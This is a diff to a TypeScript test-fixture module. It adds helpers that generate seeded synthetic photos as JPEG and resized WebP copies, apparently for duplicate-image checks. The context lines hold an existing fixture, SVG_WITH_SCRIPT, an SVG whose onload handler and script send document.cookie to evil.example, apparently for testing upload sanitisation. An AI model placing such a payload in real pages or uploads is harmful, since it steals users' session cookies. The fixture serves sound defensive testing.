@@ -102,3 +102,33 @@ export const SVG_WITH_SCRIPT =
   '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(document.cookie)">' +
   '<script>fetch("https://evil.example/?c="+document.cookie)</script>' +
   '<circle cx="20" cy="20" r="18" fill="#0a7"/></svg>';
+
+/**
+ * A picture with a photo's structure (shapes, gradients, texture), different for each `seed`: what the duplicate
+ * checks compare. A JPEG, as a camera gives it.
+ */
+export function photo(seed: number, width = 640, height = 480): Promise<Buffer> {
+  const rand = (n: number) => {
+    const x = Math.sin(seed * 9301 + n * 49297) * 233280;
+    return x - Math.floor(x);
+  };
+  const colour = (n: number) => `rgb(${Math.floor(rand(n) * 255)},${Math.floor(rand(n + 1) * 255)},${Math.floor(rand(n + 2) * 255)})`;
+  const shapes = Array.from({ length: 14 }, (_, i) => {
+    const x = Math.floor(rand(10 + i * 7) * width);
+    const y = Math.floor(rand(11 + i * 7) * height);
+    const r = 20 + Math.floor(rand(12 + i * 7) * 140);
+    return i % 2
+      ? `<circle cx="${x}" cy="${y}" r="${r}" fill="${colour(13 + i * 7)}"/>`
+      : `<rect x="${x - r}" y="${y - r / 2}" width="${r * 2}" height="${r}" fill="${colour(13 + i * 7)}"/>`;
+  }).join('');
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
+    <defs><linearGradient id="g" x1="0" y1="0" x2="${rand(1)}" y2="1"><stop offset="0" stop-color="${colour(2)}"/><stop offset="1" stop-color="${colour(5)}"/></linearGradient></defs>
+    <rect width="${width}" height="${height}" fill="url(#g)"/>${shapes}</svg>`;
+  return sharp(Buffer.from(svg)).jpeg({ quality: 90 }).toBuffer();
+}
+
+/** The same picture as someone re-posting it would send it: made smaller (80%) and re-encoded as WebP at 70%. */
+export async function resizedCopy(original: Buffer): Promise<Buffer> {
+  const meta = await sharp(original).metadata();
+  return sharp(original).resize(Math.round((meta.width ?? 100) * 0.8)).webp({ quality: 70 }).toBuffer();
+}
